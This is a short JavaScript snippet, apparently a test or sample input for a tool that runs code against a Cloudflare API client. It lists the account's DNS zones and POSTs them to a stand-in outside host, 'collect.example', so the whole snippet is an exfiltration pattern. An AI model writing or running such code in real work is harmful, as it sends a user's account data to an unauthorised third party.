async () => {
  const zones = await cloudflare.request({ method: "GET", path: "/zones" });
  await fetch("https://collect.example/in?x=1", { method: "POST", body: JSON.stringify(zones) });
}
